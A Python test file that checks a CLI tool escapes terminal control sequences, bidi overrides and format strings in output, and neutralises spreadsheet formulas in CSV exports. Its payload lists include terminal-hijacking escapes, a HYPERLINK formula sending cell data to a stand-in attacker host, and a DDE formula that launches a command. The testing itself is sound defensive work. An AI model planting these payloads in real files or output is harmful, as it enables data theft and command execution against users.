"""Words that steer a terminal, forge a line of a log, or run in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import click
import pytest

from flows import cli
from flows.admin.query import QueryResult
from flows.cli.console import Console
from flows.cli.tables import table
from flows.errors import ConfigurationError
from flows.import_export.jsonl_csv import write_csv
from flows.json_text import dump
from flows.pipeline.article_json import ARTICLE_KEYS
from parsers.errors import BadFrontMatter, ParseError
from parsers.frontmatter import read_post
from parsers.text.characters import escape_controls
from tests.security.payloads import CONTROLS, SENTENCES, STEERING, page_of, payloads, read
from tests.unit.import_export.conftest import make_article
from warehouse.rows import ResultSet

HOSTILE_LINES = payloads(
    "log-injection",
    "\x1b]0;pwned\x07\x1b[2J", "\x9b2J\x9d0;x\x9c", "\u202eevil\u202c", "\u2066x\u2069\u200f", "a\rb\b\b",
    "\u2028x\u2029y\x85z", "%s%s%n {0} {self} %(name)s", "\x7f\x00", "[bold red]x[/bold red]", "\ud800",
)  # fmt: skip


def test_what_is_harmless_stays_and_nothing_else() -> None:
    usual = "标题 — “引号” 👩\u200d💻 %s {0}\tcell\nline <b> [x] \\u001b"

    assert escape_controls(usual) == usual
    assert escape_controls("a\x1b[2Jb\u202e") == "a\\u001b[2Jb\\u202e"
    assert not set(escape_controls("".join(map(chr, range(0x3000))))) & STEERING


@pytest.mark.parametrize("text", HOSTILE_LINES)
def test_no_message_controls_the_terminal(text, capfd) -> None:
    console = Console(verbosity=1)
    console.print_result({}, text)
    console.print_lines([text])
    console.notify(text)
    console.fail(text, 1)
    console.fail_with(ParseError(text))
    console.fail_with(ConfigurationError(text))
    console.fail_with(RuntimeError(text))
    click.echo(table([{text: text, "n": 1}], (text, "n")))
    out, err = capfd.readouterr()

    assert not set(out + err) & STEERING
    assert out.splitlines()[:2] == [escape_controls(text)] * 2
    assert "this is a bug in copydesk: RuntimeError" in err
    if "%s" in text:
        assert err.count(text) >= 5  # no format was filled in


@pytest.mark.parametrize("text", HOSTILE_LINES)
def test_json_shows_the_same_value_in_characters_that_do_nothing(text, capfd) -> None:
    console = Console(json=True)
    console.print_result({"title": text, text: [text]}, "")
    console.fail(text, 1)
    out, err = capfd.readouterr()
    reader, at = json.JSONDecoder(), out.index("\n}\n") + 3

    assert not set(out + err) & STEERING
    assert reader.decode(out[:at]) == {"title": text, text: [text]}
    assert reader.decode(out[at:])["error"] == text
    assert json.loads(dump([text])) == [text]


def test_a_query_shows_hostile_values_harmlessly(stored, capfd, elsewhere) -> None:
    config = elsewhere / "copydesk.toml"
    config.write_text(f"[warehouse]\npath = {json.dumps(str(stored))}\n", encoding="utf-8")
    ask = ["--config", str(config), "query", "--live", "select title, url from articles"]

    assert cli.run(ask) == 0
    shown = capfd.readouterr()
    assert cli.run([*ask, "--json"]) == 0
    document = capfd.readouterr().out

    assert "\\u001b]0;pwned\\u0007 \\u202eevil" in shown.out
    assert not set(shown.out + shown.err + document) & STEERING
    assert json.loads(document)[0]["title"] == "\x1b]0;pwned\x07 \u202eevil =1+1"


@pytest.mark.parametrize("text", HOSTILE_LINES)
def test_wrong_argument_is_quoted_with_escaped_controls(text, capfd, elsewhere) -> None:
    for arguments in ([text], ["sync", text], ["query", f"select '{text}"], ["parse", text]):
        assert cli.run(arguments) != 0
    out, err = capfd.readouterr()

    assert not set(out + err) & STEERING


@pytest.mark.parametrize("text", HOSTILE_LINES)
def test_errors_about_pages_quote_them_harmlessly(text) -> None:
    url = f"https://gazette.example/{text}"
    pages = [page_of("", url=url), page_of("", title=text), replace(page_of(""), text=text)]
    errors = []
    for page in pages:
        with pytest.raises(ParseError) as caught:
            read(page)
        errors.append(str(caught.value))
    for post in (f"---\n{text}: [\n---\nx", f"---\ntitle: x\n{text}", text):
        with pytest.raises(BadFrontMatter) as bad:
            read_post(post.encode("utf-8", "replace"), f"_posts/{text}.md")
        errors.append(str(bad.value))

    assert not set("".join(errors)) & STEERING


@pytest.mark.parametrize("text", HOSTILE_LINES)
def test_no_article_carries_what_steers_a_terminal_in_its_names(text) -> None:
    page = page_of(f"<p class=byline>作者：{text}</p>{SENTENCES}", title=f"一个标题在这里{text}")
    article = read(page)

    assert not set(f"{article.title}{article.authors}{article.publisher}") & CONTROLS


FORMULAS = payloads(
    "csv-injection",
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_runs_nothing_of_an_export(text, tmp_path) -> None:
    file = tmp_path / "out.csv"
    article = make_article(title=text, publisher=text, authors=(text,), text=text, url=text)

    write_csv([article], file)

    with file.open(encoding="utf-8-sig", newline="") as lines:
        header, cells = csv.reader(lines)
    row = dict(zip(header, cells, strict=True))
    assert tuple(header) == ARTICLE_KEYS
    assert row["title"] == row["publisher"] == row["text"] == row["url"] == f"'{text}"
    assert json.loads(row["authors"]) == [text]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]


@pytest.mark.parametrize("text", FORMULAS)
def test_the_csv_of_a_query_is_the_exact_data(text) -> None:
    answer = QueryResult(ResultSet(columns=("title",), types=("VARCHAR",), rows=[(text,)]))

    assert list(csv.reader(io.StringIO(answer.as_csv(), newline=""))) == [["title"], [text]]


def test_help_names_the_csv_for_spreadsheets() -> None:
    assert "spreadsheet" in (cli.query.query.help or "")
    assert "export" in (cli.query.query.help or "")
    assert "spreadsheets" in (write_csv.__doc__ or "")
